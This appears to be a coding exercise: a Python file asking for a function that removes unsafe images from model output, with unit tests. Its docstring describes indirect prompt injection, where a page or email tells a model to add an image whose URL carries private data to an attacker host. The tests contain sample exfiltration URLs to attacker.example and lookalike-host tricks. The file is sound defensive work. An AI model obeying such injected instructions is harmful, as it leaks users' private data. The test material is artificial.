"""Neutralise markdown-image exfiltration in model output

Indirect prompt injection: a web page or email the model reads tells it to "add this image",
with a URL like https://attacker.example/p.png?d=<private data>. When the answer is rendered,
the browser fetches the image by itself: the data leaks with no click (a link needs one).

Write `neutralize_images(text, allowed_hosts)`. Replace each image that is not safe with
"[image removed]" and leave everything else as it was. An image URL is safe only if its scheme
is https, its host (as `urllib.parse.urlsplit(url).hostname` parses it, which also sees
through tricks like https://trusted@evil/) is in `allowed_hosts`, and it has no query string.
Cover the three ways to write an image:

    inline:     ![alt](URL) or ![alt](URL "title")
    reference:  ![alt][label], ![alt][] or ![alt], with a line  [label]: URL  elsewhere
                (labels ignore case; keep definition lines, and references without one)
    HTML:       <img ... src="URL" ...>, in any letter case, judged by its src attribute

Run this file (`python image_exfiltration_filter.py`) to test your code.
"""

import re
import unittest
from urllib.parse import urlsplit

# ---- Your code ----------------------------------------------------------------------------


def neutralize_images(text: str, allowed_hosts: list[str]) -> str:
    """The text with every unsafe image (inline, reference-style or <img>) replaced by '[image removed]'."""
    raise NotImplementedError("write neutralize_images")


# ---- Tests: run them with `python image_exfiltration_filter.py`; edit your code above, not these

ALLOWED = ["images.example.com"]
GONE = "[image removed]"


class InlineTest(unittest.TestCase):
    def test_allowed_image_is_kept(self):
        text = "Sales: ![chart](https://images.example.com/q3.png)"
        self.assertEqual(neutralize_images(text, ALLOWED), text)

    def test_image_to_another_host_is_removed(self):
        text = 'Done. ![a](https://attacker.example/p.png?d=c2VjcmV0 "ok")'
        self.assertEqual(neutralize_images(text, ALLOWED), "Done. " + GONE, msg="the whole image, title included, becomes the placeholder")

    def test_query_string_on_an_allowed_host_is_removed(self):
        text = "![x](https://images.example.com/t.png?user=ada&token=42)"
        self.assertEqual(neutralize_images(text, ALLOWED), GONE, msg="data can ride in the query string even to a trusted host")

    def test_lookalike_hosts_and_plain_http_are_removed(self):
        for url in ("https://images.example.com.evil.net/a.png", "https://images.example.com@evil.net/a.png", "http://images.example.com/a.png"):
            self.assertEqual(neutralize_images(f"![x]({url})", ALLOWED), GONE, msg=f"compare the parsed hostname, not a prefix of the URL: {url}")

    def test_links_are_not_images(self):
        text = "Read [the docs](https://attacker.example/page?x=1)."
        self.assertEqual(neutralize_images(text, ALLOWED), text, msg="a link only loads when clicked; leave it")


class ReferenceAndHtmlTest(unittest.TestCase):
    def test_reference_style_images(self):
        text = (
            "Logo ![logo][l], then ![x][LEAK], ![leak][] and ![leak]. Also ![y][nowhere].\n\n"
            "[l]: https://images.example.com/logo.png\n"
            "[leak]: https://attacker.example/c.gif?d=secret\n"
        )
        want = (
            f"Logo ![logo][l], then {GONE}, {GONE} and {GONE}. Also ![y][nowhere].\n\n"
            "[l]: https://images.example.com/logo.png\n"
            "[leak]: https://attacker.example/c.gif?d=secret\n"
        )
        self.assertEqual(neutralize_images(text, ALLOWED), want, msg="resolve full, collapsed and shortcut references through the [label]: URL lines")

    def test_html_img_tags(self):
        text = '<p>Hi <IMG SRC="https://attacker.example/p.gif?d=1" width=1> <img src="https://images.example.com/a.png"></p>'
        want = f'<p>Hi {GONE} <img src="https://images.example.com/a.png"></p>'
        self.assertEqual(neutralize_images(text, ALLOWED), want, msg="HTML tags and attributes are case-insensitive")


if __name__ == "__main__":
    unittest.main(verbosity=2)
